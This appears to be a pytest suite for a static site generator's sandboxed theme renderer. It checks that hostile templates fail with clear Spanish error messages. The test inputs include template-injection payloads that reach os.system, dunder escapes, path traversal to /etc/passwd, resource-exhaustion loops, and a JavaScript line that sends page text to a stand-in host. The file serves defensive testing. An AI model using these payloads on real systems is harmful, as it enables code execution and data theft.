"""A theme that means harm, or is only mistaken: each way ends in one clear finding, and in no site."""

import os
from pathlib import Path

import pytest

from bench import Bench, Result
from valuegen.render import foreign

LOOP = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"


def built(bench: Bench, home: str, **files: str) -> Result:
    """A build with a theme whose first page is this."""
    themes = {f"themes/taller/{path}": text for path, text in files.items()}
    work = bench.workspace({"themes/taller/home.html": home, **themes})
    work.change("valuegen.yaml", "  language: es\n", "  language: es\n  theme: taller\n")
    result = work.run("build")
    assert not (work.root / "site" / "public").exists() or result.exit == 0
    return result


HOSTILE = [
    ("x\n{{ ''.__class__ }}", 2, "«__class__» está cerrado para los temas"),
    ("{{ ''|attr('__class__') }}", 1, "«__class__» está cerrado para los temas"),
    ("{{ cycler.__init__.__globals__.os.system('touch written') }}", 1, "«__init__» está cerrado para los temas"),
    ("{{ page.__init__.__globals__ }}", 1, "está cerrado para los temas|no se conoce aquí"),
    ("{{ site.__setattr__('title', 'x') }}", 1, "está cerrado para los temas|no se conoce aquí"),
    ("{{ page.posts.__class__ }}", 1, "«__class__» está cerrado para los temas"),
    ("{{ '%s'.format.__func__ }}", 1, "está cerrado para los temas|no se conoce aquí"),
    ("{% set a = [1] %}{{ a.append(2) }}", 1, "«append» está cerrado para los temas"),
    ("{{ range(10 ** 9) }}", 1, "Un tema puede contar hasta 100.000 como mucho."),
    ("x\n\n{% include 'absent.html' %}", 3, "No hay ninguna plantilla «absent.html» en este tema."),
    ("{% include '/etc/passwd' %}", 1, "No hay ninguna plantilla «/etc/passwd» en este tema."),
    ("{% include '../../valuegen.yaml' %}", 1, "No hay ninguna plantilla «../../valuegen.yaml» en este tema."),
    ("{% include 'home.html' %}", 1, "sin fin"),
    ("{% extends 'home.html' %}", 1, "sin fin"),
    ("{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}", 1, "sin fin"),
]


@pytest.mark.parametrize(("home", "line", "told"), HOSTILE)
def test_what_reaches_for_more_than_its_data_is_told_with_its_line(
    bench: Bench, home: str, line: int, told: str
) -> None:
    result = built(bench, home)
    assert result.exit == 1
    assert f"themes/taller/home.html:{line}:" in result.err
    assert any(part in result.err for part in told.split("|")), result.err
    assert "Traceback" not in result.err
    assert not list(bench.folder.rglob("written"))


def test_an_endless_loop_ends(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(foreign, "SECONDS", 1)
    result = built(bench, LOOP)
    assert result.exit == 1
    assert "themes/taller/home.html:1:1: error format: La plantilla tarda más de 1 segundos" in result.err


@pytest.mark.parametrize(
    "home", ["{{ ('a' * 10 ** 10)|length }}", "{{ 'a'.ljust(10 ** 10)|length }}", "{{ [0] * 10 ** 10 }}"]
)
def test_huge_memory_is_refused(bench: Bench, home: str) -> None:
    result = built(bench, home)
    assert result.exit == 1
    assert "themes/taller/home.html:1:" in result.err
    assert "memoria" in result.err or "512 MiB" in result.err


@pytest.mark.skipif(os.name != "posix", reason="limits of a process are POSIX")
def test_the_child_can_write_no_file(tmp_path: Path) -> None:
    """Even code that had got out of the sandbox could not."""
    import subprocess
    import sys

    target = tmp_path / "written"
    code = (
        "from valuegen.render import foreign; foreign._limit()\n"
        f"try:\n    open({str(target)!r}, 'w').write('x')\nexcept OSError:\n    pass\n"
    )
    subprocess.run([sys.executable, "-c", code], check=False, capture_output=True)
    assert not target.exists() or target.read_text() == ""


@pytest.mark.parametrize(
    "path", ["planner/contact.html", "planner/new.html", "review.html", "assets/planner.js", "assets/planner-keys.js"]
)
def test_pages_that_show_clients_are_made_by_no_theme_of_others(bench: Bench, path: str) -> None:
    """Else it could send what stands in them elsewhere."""
    result = built(bench, "x", **{path: "location = 'https://x.example/?' + document.body.innerText"})
    assert result.exit == 1
    assert f"themes/taller/{path}:1:1: error format: Las páginas que muestran clientes las hacen solo" in result.err


@pytest.mark.parametrize(
    ("home", "line"),
    [
        ("x\n{{ [1]|map('string') }}", 2),
        ("x\n{{ site.title.upper }}", 2),
        ("x\n{{ [cycler(1)] }}", 2),
        ("x\n{{ ([1]|select)|string }}", 1),
        ("x\n{{ 'a' ~ ([1]|select) }}", 1),
    ],
)
def test_no_page_says_where_something_lies_in_memory(bench: Bench, home: str, line: int) -> None:
    """It would be another in each build."""
    result = built(bench, home)
    assert result.exit == 1
    assert f"themes/taller/home.html:{line}:1: error format: Esto muestra en qué sitio de la memoria" in result.err


def test_a_text_may_speak_of_places_in_memory(bench: Bench) -> None:
    work = bench.workspace({"themes/taller/post.html": "<p>a at 0x7f0000000001&gt;</p>{{ page.body }}"})
    work.change("valuegen.yaml", "  language: es\n", "  language: es\n  theme: taller\n")
    work.change("content/calendar/2026.yaml", "text: |\n    Pesa", "text: |\n    `<object at 0x7f12345678>` Pesa")
    assert work.run("build").exit == 0
    assert "0x7f12345678" in work.read("site/public/harina/index.html")


def test_it_may_change_how_these_look(bench: Bench) -> None:
    sheet = "body { color: #123 }"
    result = built(bench, "x", **{"assets/planner.css": sheet, "assets/review.css": sheet})
    assert result.exit == 0, result.err
    [made] = (bench.folder / "work/site/planner/assets").glob("planner.*.css")
    assert "#123" in made.read_text("utf-8")


def test_a_value_s_own_method_that_does_no_harm_is_there(bench: Bench) -> None:
    result = built(bench, "{{ site.title.upper() }} {{ '{}'.format(page.posts|length) }}")
    assert result.exit == 0, result.err
